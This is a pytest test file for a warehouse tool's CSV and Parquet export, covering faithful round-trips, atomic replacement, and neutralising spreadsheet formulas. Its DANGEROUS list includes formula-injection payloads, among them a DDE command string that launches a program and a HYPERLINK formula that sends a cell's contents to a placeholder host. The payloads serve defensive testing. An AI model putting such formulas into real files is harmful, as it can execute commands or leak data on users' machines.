"""What `make export` writes, that it reads back as what was published, and what it refuses.

dbt never runs here: what is published is a small database, of values as ugly as they come.
"""

import csv
import hashlib
import json
import os
import random
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pyarrow.parquet
import pytest
from helpers.project import PROJECT
from hypothesis import example, given, settings
from hypothesis import strategies as st

from warehouse import export, publish
from warehouse.database.opening import DatabaseError
from warehouse.export import ExportError
from warehouse.system import files
from warehouse.system.locks import LockError, sole_export

DANGEROUS = [
    "=1+1",
    "+1",
    "-5.2",
    "-",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://e/?"&A1,"click")',
    "\tx",
    "\rx",
    "\nx",
    "\0x",
    " =1",
    "\u00a0\u200b\ufeff=1",
    '"=1+1"',
    " '=1",
    "\u201c=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "x;=1+1;y",
    'x";=1+1;"y',
    "x; =1",
    "x\n=1+1\ny",
    "x\r\n-1",
    "x\t@y",
    ";=1",
    "\r\n=1",
    "'=1",
    "'",
    "''",
    "it's;'x",
]
HARMLESS = [
    "",
    " ",
    "null",
    "a - b = c",
    "up 5 %, -3 points",
    "a=b; c",
    "it's",
    "00000001",
    "1234567890123456789",
    "1-2",
    "3/4",
    "1e5",
    "2026-01-02",
    "true",
    'say "hi", twice',
    "two\nlines",
    "two\r\nlines",
    "Gr\u00fc\u00dfe, \u65e5\u672c\u8a9e, \U0001f600",
    "e\u0301 and \u00e9",
    "\u0645\u0631\u062d\u0628\u0627",
    "<b>&amp;</b> {{ jinja }} \\n \\",
    "x" * 200_000,
]

UGLY = """
    create schema marts;
    create table marts.warehouse_build as
        select timestamp '2026-03-19 18:00:00' as as_of, true as covers_all_events,
            182 as input_rows, 1 as exports_seen;
    create table marts.texts (
        id varchar, "=a ""name"", = or not" varchar, "\u00fc\U0001f600" varchar
    );
    create table marts.numbers (
        whole integer, large bigint, money decimal(18,2), exact decimal(18,6), "real" double,
        is_true boolean
    );
    insert into marts.numbers values
        (1, 9223372036854775807, -5.20, 0.000001, 0.1, true),
        (-1, -9223372036854775808, 9999999999999999.99, -999999999999.999999, -5.2, false),
        (0, 0, 0, 0, 1e-7, null), (null, null, null, null, null, null),
        (2, 2, 2, 2, 'nan', true), (3, 3, 3, 3, 'inf', true), (4, 4, 4, 4, '-inf', true),
        (5, 5, 5, 5, 1.7976931348623157e308, true), (6, 6, 6, 6, 5e-324, true),
        (7, 7, 7, 7, 0.30000000000000004, true), (8, 8, 8, 8, 1e20, true);
    create table marts.times (day date, moment timestamp);
    insert into marts.times values
        ('2026-03-16', '2026-03-16 10:00:00'), ('0001-01-01', '2026-03-16 10:00:00.123456'),
        ('9999-12-31', '9999-12-31 23:59:59.999999'), (null, null), (null, '1969-12-31 00:00:00');
    create table marts.nothing (value varchar, name decimal(18,2));
    create table marts."a name, 'of' \u00fc\U0001f600.b" as select 1 as a from range(3);
"""

Row = tuple[object, ...]


def make_published(folder: Path, *statements: str) -> Path:
    """Make a published file of ugly marts, changed by statements; return the project's folder."""
    folder.mkdir(exist_ok=True)
    with duckdb.connect(str(folder / "warehouse.duckdb")) as connection:
        connection.execute(UGLY)
        texts = [None, *DANGEROUS, *HARMLESS]
        rows = [(f"T{i}", text, texts[i - 1]) for i, text in enumerate(texts)]
        connection.executemany("insert into marts.texts values (?, ?, ?)", rows)
        for statement in statements:
            connection.execute(statement)
    return folder


@pytest.fixture(scope="module")
def ugly(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a project with an export; to be looked at only."""
    folder = make_published(tmp_path_factory.mktemp("ugly"))
    export.export(folder / "export", folder)
    return folder


@pytest.fixture
def project(tmp_path: Path, ugly: Path) -> Path:
    """Return a project with an export, to be changed."""
    shutil.copytree(ugly, tmp_path, dirs_exist_ok=True)
    return tmp_path


MARTS = [
    "a name, 'of' \u00fc\U0001f600.b",
    "nothing",
    "numbers",
    "texts",
    "times",
    "warehouse_build",
]
every_mart = pytest.mark.parametrize("mart", MARTS)


def published(folder: Path, mart: str) -> tuple[list[str], list[str], list[Row]]:
    """Return the columns of a published mart, their types, and its rows in order."""
    with duckdb.connect(str(folder / "warehouse.duckdb"), read_only=True) as connection:
        relation = connection.sql(f'from marts."{mart}" order by all nulls last')
        return relation.columns, [str(one) for one in relation.types], relation.fetchall()


def content(folder: Path) -> dict[str, bytes]:
    """Return the bytes of each file of a folder."""
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def names(folder: Path) -> list[str]:
    """Return the names in a folder."""
    return sorted(path.name for path in folder.iterdir())


def sql_of(project: Path, statement: str) -> None:
    """Change what is published."""
    with duckdb.connect(str(project / "warehouse.duckdb")) as connection:
        connection.execute(statement)


def refused(project: Path, error: type[Exception] = ExportError, **options: Path) -> str:
    """Return why an export is refused; what was there must be untouched, and nothing left."""
    before, beside = content(project / "export"), names(project)
    with pytest.raises(error) as refusal:
        export.export(options.get("folder", project / "export"), project)
    assert content(project / "export") == before
    assert names(project) == beside
    assert "\n" not in str(refusal.value)
    return str(refusal.value)


# ---- Parquet --------------------------------------------------------------------------------


@every_mart
def test_parquet_gives_what_was_published(ugly: Path, mart: str) -> None:
    columns, types, rows = published(ugly, mart)
    relation = duckdb.sql(f"from read_parquet({publish.quoted(ugly / f'export/{mart}.parquet')})")
    assert relation.columns == columns
    assert [str(one) for one in relation.types] == types
    assert repr(relation.fetchall()) == repr(rows)  # nan is nan here


def test_others_see_the_types_in_parquet_too(ugly: Path) -> None:
    def types(mart: str) -> list[str]:
        schema = pyarrow.parquet.read_schema(ugly / f"export/{mart}.parquet")
        return [str(one) for one in schema.types]

    assert types("numbers") == [
        "int32",
        "int64",
        "decimal128(18, 2)",
        "decimal128(18, 6)",
        "double",
        "bool",
    ]
    assert types("times") == ["date32[day]", "timestamp[us]"]


# ---- CSV ------------------------------------------------------------------------------------


def recovered(cell: str) -> str:
    """Return the text that a cell stands for, as docs/decisions.md says."""
    return re.sub(r"(^|[;\t\r\n])'", r"\1", cell)


CELL = re.compile(r'(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)')


def cells(file: Path) -> list[list[str | None]]:
    """Read a CSV by the letter of RFC 4180; null is what is empty and not quoted."""
    text = file.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    rows: list[list[str | None]] = [[]]
    position = 1
    while position < len(text):
        match = CELL.match(text, position)
        assert match, f"no cell at {position}: {text[position : position + 20]!r}"
        is_quoted = match[1] is not None
        rows[-1].append(match[1].replace('""', '"') if is_quoted else match[2] or None)
        position = match.end()
        if match[3] == "\r\n":
            rows.append([])
    assert rows.pop() == [], "the last line has no end"
    return rows


def value_of(cell: str | None, kind: str) -> object:
    """Return the value that a cell of a column stands for."""
    if cell is None:
        return None
    if kind == "VARCHAR":
        return recovered(cell)
    if kind == "DOUBLE":
        return float(recovered(cell))
    return {
        "INTEGER": int,
        "BIGINT": int,
        "DECIMAL": Decimal,
        "BOOLEAN": {"true": True, "false": False}.__getitem__,
        "DATE": date.fromisoformat,
        "TIMESTAMP": datetime.fromisoformat,
    }[kind.partition("(")[0]](cell)


@every_mart
def test_csv_gives_what_was_published(ugly: Path, mart: str) -> None:
    columns, types, rows = published(ugly, mart)
    header, *lines = cells(ugly / f"export/{mart}.csv")
    assert [recovered(name) for name in header] == columns
    read = [tuple(map(value_of, line, types)) for line in lines]
    assert repr(read) == repr(rows)


@every_mart
def test_pythons_csv_module_reads_the_same(ugly: Path, mart: str) -> None:
    file = ugly / f"export/{mart}.csv"
    csv.field_size_limit(1_000_000)
    with file.open(encoding="utf-8-sig", newline="") as lines:
        read = list(csv.reader(lines, strict=True))
    assert read == [[cell or "" for cell in line] for line in cells(file)]


def test_a_csv_has_plain_numbers_and_iso_times(ugly: Path) -> None:
    def column(mart: str, position: int) -> list[str | None]:
        return [line[position] for line in cells(ugly / f"export/{mart}.csv")[1:]]

    assert "-5.20" in column("numbers", 2)
    assert {"0.30000000000000004", "1e-07", "-5.2", "nan", "inf", "'-inf"} < {*column("numbers", 4)}
    assert {"2026-03-16 10:00:00", "2026-03-16 10:00:00.123456"} < {*column("times", 1)}
    texts = (ugly / "export/texts.csv").read_text(encoding="utf-8-sig")
    assert ',"00000001",' in texts  # in quotes: it can be told from a number
    assert (ugly / "export/nothing.csv").read_bytes() == b'\xef\xbb\xbf"value","name"\r\n'


def test_infinite_times_are_no_formulas_either(tmp_path: Path) -> None:
    statement = "insert into marts.times values ('-infinity', '-infinity')"
    project = make_published(tmp_path, statement)
    export.export(project / "export", project)
    assert ["'-infinity", "'-infinity"] in cells(project / "export/times.csv")


# ---- No cell is a formula -------------------------------------------------------------------


def is_dangerous(cell: str) -> bool:
    """Tell whether a spreadsheet may take a cell for a formula; written apart from export.py."""
    if cell.startswith("'"):
        return False
    if cell[:1] in ("\t", "\r", "\n", "\0"):
        return True
    for character in cell:
        kind = unicodedata.category(character)
        is_blank = kind in ("Zs", "Zl", "Zp", "Cc", "Cf", "Co", "Pi", "Pf")
        if not is_blank and character not in "'\"`\uff02\uff07":
            same = unicodedata.normalize("NFKC", character)[0]
            return same in ("=", "+", "-", "@", "\N{MINUS SIGN}")
    return False


def is_safe(text: str) -> bool:
    """Tell whether no part of a text, wherever a program splits it, is dangerous."""
    return not is_dangerous(text) and not any(
        is_dangerous(part) for part in re.split(r"[;\t\r\n]", text)[1:] if part
    )


@pytest.fixture(scope="module")
def protected() -> Callable[[list[str]], list[str]]:
    """Return a function that gives texts as the CSV has them."""
    connection = duckdb.connect()
    connection.execute(export.SPREADSHEET_TEXT)

    def protect(texts: list[str]) -> list[str]:
        query = "select spreadsheet_text(unnest(?::varchar[]))"
        return [cell for (cell,) in connection.execute(query, [texts]).fetchall()]

    return protect


def test_dangerous_texts_are_changed_and_others_are_not(
    protected: Callable[[list[str]], list[str]],
) -> None:
    for text, cell in zip(DANGEROUS, protected(DANGEROUS), strict=True):
        assert cell != text
        assert is_safe(cell)
        assert recovered(cell) == text
    assert protected(HARMLESS) == HARMLESS
    assert protected(["=1", "x;=1", "'=1", "x\r\n-1"]) == ["'=1", "x;'=1", "''=1", "x\r\n'-1"]


def test_every_character_that_unicode_takes_for_a_formula_is_known(
    protected: Callable[[list[str]], list[str]],
) -> None:
    characters = [chr(code) for code in range(sys.maxunicode + 1) if not 0xD800 <= code < 0xE000]
    texts = [text for one in characters for text in (f"{one}1", f"{one}=1") if is_dangerous(text)]
    assert len(texts) > 100_000
    bad = [text for text, cell in zip(texts, protected(texts), strict=True) if is_dangerous(cell)]
    assert bad == []


PIECES = [*"=+-@;,|'\"`\t\r\n\0 \u00a0\u200b\ufeff\uff1d\uff0b\uff0d\uff20\u2212\u201cx1", "\r\n"]


@example(['"\t='])
@settings(max_examples=200)
@given(st.lists(st.lists(st.sampled_from(PIECES) | st.characters(codec="utf-8")).map("".join)))
def test_any_text_is_safe_and_can_be_recovered(
    protected: Callable[[list[str]], list[str]], texts: list[str]
) -> None:
    result = protected(texts)
    assert [recovered(cell) for cell in result] == texts
    assert [cell for cell in result if not is_safe(cell)] == []


def test_no_cell_of_an_export_is_dangerous_but_a_number(ugly: Path) -> None:
    for mart in MARTS:
        header, *lines = cells(ugly / f"export/{mart}.csv")
        assert all(is_safe(name or "") for name in header)
        for line in lines:
            for cell in line:
                is_number = re.fullmatch(r"-?[0-9.]+(e[-+][0-9]+)?", cell or "")
                assert is_safe(cell or "") or is_number


# ---- The manifest ---------------------------------------------------------------------------


def test_the_manifest_says_what_the_files_are(ugly: Path) -> None:
    manifest = json.loads((ugly / "export/manifest.json").read_bytes())
    with publish.held(ugly, publish.PUBLISHED_FILE) as connection:
        marts = publish.read_marts(connection, publish.CATALOG)
    assert {name: one["rows"] for name, one in manifest["marts"].items()} == marts.rows
    fingerprints = {name: one["fingerprint"] for name, one in manifest["marts"].items()}
    assert fingerprints == marts.fingerprints
    listed = {
        name: file for one in manifest.pop("marts").values() for name, file in one["files"].items()
    }
    assert manifest == {
        "as_of": "2026-03-19 18:00:00",
        "covers_all_events": True,
        "input_rows": 182,
        "exports_seen": 1,
        "duckdb": duckdb.__version__,
    }
    written = content(ugly / "export")
    assert written.keys() == listed.keys() | {"manifest.json"}
    for name, file in listed.items():
        digest = hashlib.sha256(written[name]).hexdigest()
        assert file == {"bytes": len(written[name]), "sha256": digest}


@every_mart
def test_the_documented_line_gives_the_fingerprint(ugly: Path, mart: str) -> None:
    page = (PROJECT / "docs/exports.md").read_text(encoding="utf-8")
    (line,) = re.findall(r'"(select printf.*) from \'export/\w+\.parquet\' as mart"', page)
    file = publish.quoted(ugly / f"export/{mart}.parquet")
    manifest = json.loads((ugly / "export/manifest.json").read_bytes())
    (fingerprint,) = duckdb.sql(f"{line} from {file} as mart").fetchall()
    assert fingerprint == (manifest["marts"][mart]["fingerprint"],)


def test_the_same_marts_give_the_same_bytes(ugly: Path, tmp_path: Path) -> None:
    """Wherever they lie, in whatever order their rows were written."""
    shuffled = [
        f"create or replace table marts.{mart} as from marts.{mart} order by hash({column})"
        for mart, column in (("texts", "id"), ("numbers", "whole"), ("times", "moment"))
    ]
    project = make_published(tmp_path / "elsewhere", *shuffled)
    export.export(project / "reports", project)
    assert content(project / "reports") == content(ugly / "export")


def test_marts_that_do_not_fit_in_a_row_group_are_in_order_too(tmp_path: Path) -> None:
    statements = [
        "create table marts.many as "
        f"select i // 7 as a, hash(i) % 1000 as b, 'x' || i as c from range(300000) t(i) {order}"
        for order in ("", "order by hash(i)")
    ]
    written = []
    for number, statement in enumerate(statements):
        project = make_published(tmp_path / str(number), statement)
        export.export(project / "export", project)
        written.append(content(project / "export"))
    assert written[0] == written[1]
    lines = cells(tmp_path / "0/export/many.csv")[1:]
    assert len(lines) == 300_000
    keys = [(int(a or 0), int(b or 0), c) for a, b, c in lines]
    assert keys == sorted(keys)


# ---- What is replaced, and what isn't -------------------------------------------------------


def test_files_of_marts_that_are_gone_do_not_stay(project: Path) -> None:
    sql_of(project, "drop table marts.times; create table marts.new as select 1 as a")
    export.export(project / "export", project)
    written = {*names(project / "export")}
    assert not written & {"times.csv", "times.parquet"}
    assert {"new.csv", "new.parquet", "manifest.json"} < written
    assert names(project) == ["export", "warehouse.duckdb"]


@pytest.mark.parametrize("can_exchange", [True, False])
def test_a_link_stays_one_and_readers_keep_their_rights(
    project: Path, can_exchange: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not can_exchange:
        monkeypatch.setattr(files, "exchanged", lambda *_: False)
    elsewhere = project / "elsewhere"
    (project / "export").rename(elsewhere)
    (project / "export").symlink_to(elsewhere)
    elsewhere.chmod(0o750)
    sql_of(project, "insert into marts.nothing values ('new', 1)")
    export.export(project / "export", project)
    assert (project / "export").is_symlink()
    assert cells(elsewhere / "nothing.csv")[1:] == [["new", "1.00"]]
    assert elsewhere.stat().st_mode & 0o777 == 0o750
    assert names(project) == ["elsewhere", "export", "warehouse.duckdb"]


@pytest.mark.parametrize("name", ["day=1", "it's [a] *.b?", "\u00fc \U0001f600", "-x;y"])
def test_a_folder_may_have_any_name(project: Path, name: str) -> None:
    (project / name).mkdir()
    (project / name / f".{name}.1.tmp").mkdir()
    for _ in range(2):
        export.export(project / name / name, project)
    assert content(project / name / name) == content(project / "export")
    assert names(project / name) == [name]


def test_two_folders_are_exchanged_or_left_as_they_are(tmp_path: Path) -> None:
    one, other = tmp_path / "one", tmp_path / "other"
    for folder in (one, other):
        folder.mkdir()
        (folder / folder.name).touch()
    is_done = files.exchanged(one, other)
    assert (names(one), names(other)) == ((["other"], ["one"]) if is_done else (["one"], ["other"]))
    assert not files.exchanged(one, tmp_path / "missing")


def test_a_folder_that_cannot_be_renamed_is_put_back(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rename = Path.rename

    def fail_on_the_new(path: Path, target: Path) -> Path:
        if path.name.endswith(".tmp"):
            raise PermissionError(1, "Operation not permitted")
        return rename(path, target)

    monkeypatch.setattr(files, "exchanged", lambda *_: False)
    monkeypatch.setattr(Path, "rename", fail_on_the_new)
    assert "can't be written: Operation not permitted. Name a folder" in refused(project)


def test_an_empty_folder_and_what_desktops_leave_are_no_obstacle(project: Path) -> None:
    (project / "new").mkdir()
    export.export(project / "new", project)
    (project / "new/.DS_Store").touch()
    export.export(project / "new", project)
    assert content(project / "new") == content(project / "export")


def test_leftovers_of_killed_exports_are_removed(project: Path) -> None:
    (project / ".export.1.tmp/spilled").mkdir(parents=True)
    (project / ".export.7.tmp.old").mkdir()
    (project / f".export.{os.getpid()}.tmp").mkdir()  # numbers of processes come again
    export.export(project / "export", project)
    assert names(project) == ["export", "warehouse.duckdb"]


@pytest.mark.parametrize("name", ["notes.txt", "manifest.json", "marts/"])
def test_a_folder_of_something_else_is_refused(project: Path, name: str) -> None:
    other = project / "other"
    other.mkdir()
    (other / "my").write_text("own")
    (other / name).mkdir() if name.endswith("/") else (other / name).write_text('{"marts": 1}')
    message = refused(project, folder=other)
    assert f"holds what is of no export: {min(name.strip('/'), 'my')} and 1 more. " in message
    assert message.endswith("Move it away, or name another folder: make export ARGS=reports")
    assert (other / "my").read_text() == "own"


def test_a_file_that_was_put_beside_an_export_is_kept(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "export/notes.txt").write_text("mine")
    monkeypatch.setattr(export, "write", None)  # it is said before anything is written
    assert "export holds what is of no export: notes.txt. Move" in refused(project)


def test_a_file_that_is_put_there_meanwhile_is_kept(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write = export.write

    def write_and_disturb(*arguments: object) -> None:
        write(*arguments)
        (project / "export/notes.txt").write_text("mine")

    monkeypatch.setattr(export, "write", write_and_disturb)
    with pytest.raises(ExportError, match=r"holds what is of no export: notes\.txt"):
        export.export(project / "export", project)
    assert (project / "export/notes.txt").read_text() == "mine"


def test_a_file_is_no_folder(project: Path) -> None:
    (project / "file").touch()
    assert "file is no folder. Move it away" in refused(project, folder=project / "file")


# ---- What can't be exported -----------------------------------------------------------------


def test_nothing_published_is_said(project: Path) -> None:
    (project / "warehouse.duckdb").unlink()
    assert refused(project, DatabaseError) == "warehouse.duckdb is missing. Run `make build`."


def test_a_file_that_is_written_to_is_said(project: Path) -> None:
    code = "import duckdb, sys; c = duckdb.connect(sys.argv[1]); print(1, flush=True); input()"
    command = [sys.executable, "-c", code, str(project / "warehouse.duckdb")]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True}
    with subprocess.Popen(command, **pipes) as writer:
        assert writer.stdout.readline() == "1\n"
        message = refused(project, DatabaseError)
        writer.communicate("\n")
    assert message.startswith("warehouse.duckdb is open for writing by ")
    assert message.endswith(
        f"(PID {writer.pid}). Let it end, or close it, and run `make export` again."
    )


def test_a_damaged_file_is_said(project: Path) -> None:
    (project / "warehouse.duckdb").write_text("no database")
    message = refused(project, DatabaseError)
    assert message.startswith("warehouse.duckdb can't be opened: ")
    assert message.endswith("If it is damaged, remove it. Run `make build`.")


def test_a_file_that_is_damaged_within_is_said(project: Path) -> None:
    file = project / "warehouse.duckdb"
    with file.open("r+b") as written:
        for block in range(1, file.stat().st_size // 262_144):
            written.seek(3 * 4096 + block * 262_144 + 1000)
            written.write(b"\xff" * 64)
    message = refused(project, (ExportError, DatabaseError))
    assert message.startswith("warehouse.duckdb can't be opened: ") or message.startswith(
        "The marts in warehouse.duckdb can't be read: "
    )
    assert message.endswith("Run `make build`.")


@pytest.mark.parametrize(
    ("statement", "reason"),
    [
        ("drop table marts.warehouse_build", "warehouse_build"),
        ("delete from marts.warehouse_build", "out of range"),
        ("alter table marts.warehouse_build drop input_rows", "input_rows"),
    ],
)
def test_marts_that_are_none_of_ours_are_said(project: Path, statement: str, reason: str) -> None:
    sql_of(project, statement)
    message = refused(project)
    assert message.startswith("The marts in warehouse.duckdb can't be read: ")
    assert reason in message
    assert message.endswith("Run `make build`.")


def test_a_log_beside_the_file_is_said(project: Path) -> None:
    (project / "warehouse.duckdb.wal.checkpoint").touch()
    message = refused(project, DatabaseError)
    assert message.endswith("left of a write that was broken off. Remove both. Run `make build`.")


def test_a_type_that_parquet_does_not_have_is_said(project: Path) -> None:
    sql_of(project, "create table marts.sums as select sum(1) as total")
    assert refused(project) == (
        "sums.total is HUGEINT, for which Parquet has DOUBLE."
        " Cast it in the model, and build again."
    )


def test_what_is_not_written_as_it_was_published_is_said(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "FINGERPRINT", "'that of other rows'")
    mart = MARTS[0]
    message = f"What was written of {mart} isn't what was published: run `make export` again."
    assert refused(project) == message


def test_a_name_that_no_file_can_have_is_said(project: Path) -> None:
    sql_of(project, 'create table marts."../a" as select 1 as a')
    assert refused(project) == "The mart '../a' has a name that no file can have."


def test_a_folder_that_is_not_there_is_said(project: Path) -> None:
    message = refused(project, LockError, folder=project / "not/there")
    assert message.endswith("not can't be opened: No such file or directory.")


def test_a_second_export_stops(project: Path) -> None:
    with sole_export(project):
        message = refused(project, LockError)
    assert message == "Another export is running. Let it end, and try again."


def test_a_folder_that_cannot_be_written_is_said(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object) -> None:  # root, whom tests may run as, may write anywhere
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "mkdir", refuse)
    message = refused(project)
    assert message.endswith(
        "can't be written: Permission denied."
        " Name a folder that can be written: make export ARGS=<folder>."
    )


def test_a_folder_that_cannot_be_looked_into_is_said(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(_: Path) -> bool:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "exists", refuse)
    message = refused(project)
    assert "can't be read: Permission denied. Name a folder that can be written" in message


# ---- The command line, and other processes --------------------------------------------------


def start(project: Path, *arguments: str, **options: object) -> subprocess.Popen[str]:
    """Start the command line in a project that has a copy of the package."""
    if not (project / "warehouse").exists():
        shutil.copytree(PROJECT / "warehouse", project / "warehouse")
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    command = [sys.executable, "-m", "warehouse", "export", *arguments]
    return subprocess.Popen(command, cwd=project, **pipes, **options)


def test_the_command_line_exports_or_says_why_not(project: Path) -> None:
    with start(project) as process:
        output = process.communicate()
    assert (process.returncode, output[1]) == (0, "")
    assert output[0] == (
        f"Exported 6 marts, {sum(len(published(project, mart)[2]) for mart in MARTS)} rows, as of"
        " 2026-03-19 18:00:00, to export: each as Parquet and as CSV, and manifest.json.\n"
    )
    (project / "warehouse.duckdb").unlink()
    with start(project) as process:
        output = process.communicate()
    assert (process.returncode, output[0]) == (4, "")
    assert output[1] == "Nothing was exported. warehouse.duckdb is missing. Run `make build`.\n"


def test_more_rows_than_a_spreadsheet_shows_are_said(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(export, "SPREADSHEET_ROWS", 11)
    monkeypatch.setattr(export, "LARGE", 50)
    said = str(export.export(project / "export", project)).splitlines()[1:]
    rows = len(published(project, "texts")[2])
    assert said == [
        "numbers.csv has 11 rows. A spreadsheet shows 10.",
        f"texts.csv has {rows} rows. A spreadsheet shows 10.",
    ]
    assert capsys.readouterr().out == f"Exporting texts, {rows} rows.\n"


def test_a_full_disk_is_said(project: Path) -> None:
    """The kernel's limit on the size of a file stands for the disk's."""
    before = content(project / "export")
    limit = (100_000, 100_000)
    process = start(project, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, limit))
    with process:
        error = process.communicate()[1]
    assert process.returncode == 4
    assert error.startswith("Nothing was exported. export can't be written: ")
    assert "File too large" in error
    assert error.endswith("Raise the limit on the size of a file (`ulimit -f`), and try again.\n")
    assert len(error.splitlines()) == 1
    assert content(project / "export") == before
    assert names(project) == ["export", "warehouse", "warehouse.duckdb"]


def test_an_interruption_leaves_no_trace(project: Path) -> None:
    sql_of(project, "create table marts.many as select hash(i) as a from range(2000000) t(i)")
    before = content(project / "export")
    with start(project) as process:
        assert process.stdout.readline() == "Exporting many, 2,000,000 rows.\n"
        process.send_signal(signal.SIGINT)
        output = process.communicate()
    assert (process.returncode, *output) == (130, "", "\nInterrupted.\n")
    assert content(project / "export") == before
    assert names(project) == ["export", "warehouse", "warehouse.duckdb"]


def test_a_publication_meanwhile_does_not_mix_versions(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = content(project / "export")
    newer = make_published(project / "newer", "update marts.texts set id = id || '!'")
    write_mart = export.write_mart

    def publish_and_write(*arguments: object) -> object:
        file = newer / "warehouse.duckdb"
        if file.exists():
            file.rename(project / "warehouse.duckdb")
        return write_mart(*arguments)

    monkeypatch.setattr(export, "write_mart", publish_and_write)
    export.export(project / "export", project)
    assert content(project / "export") == before
    export.export(project / "export", project)
    assert content(project / "export") != before


def test_a_killed_export_is_the_old_or_the_new(
    project: Path, whole: bool, figures: dict[str, str]
) -> None:
    versions = [content(project / "export")]
    sql_of(project, "drop table marts.times; update marts.texts set id = id || '!'")
    started = time.monotonic()
    with start(project) as process:
        process.communicate()
    seconds = time.monotonic() - started
    versions.append(content(project / "export"))
    assert versions[0] != versions[1]
    kills = 40 if whole else 8
    moments = random.Random(1)
    for number in range(kills):
        # What is there is always the version that isn't published.
        shutil.rmtree(project / "export")
        (project / "export").mkdir()
        for name, data in versions[0].items():
            (project / "export" / name).write_bytes(data)
        with start(project) as process:
            time.sleep(seconds * (number + moments.random()) / kills)
            process.kill()
        assert content(project / "export") in versions
    figures["exports killed"] = f"{kills}, each the old or the new"
    export.export(project / "export", project)
    assert content(project / "export") == versions[1]
    assert names(project) == ["export", "warehouse", "warehouse.duckdb"]


def test_a_kill_between_two_files_leaves_the_old(project: Path) -> None:
    """Wherever the clock would have ended it."""
    before = content(project / "export")
    shutil.copytree(PROJECT / "warehouse", project / "warehouse")
    script = project / "warehouse/export.py"
    sql_of(project, "update marts.texts set id = id || '!'")
    original = script.read_text(encoding="utf-8")
    for place in ("write_synced(folder / MANIFEST", "replace_folder(temporary, target)"):
        kill = f"os.kill(os.getpid(), 9) or {place}"
        assert original.count(place) == 1
        script.write_text(original.replace(place, kill), encoding="utf-8")
        with start(project) as process:
            process.communicate()
        assert process.returncode == -signal.SIGKILL
        assert content(project / "export") == before
    assert list(project.glob(".export.*.tmp"))
    script.write_text(original, encoding="utf-8")
    with start(project) as process:
        process.communicate()
    assert not list(project.glob(".export.*.tmp"))
    assert process.returncode == 0
    assert content(project / "export") != before
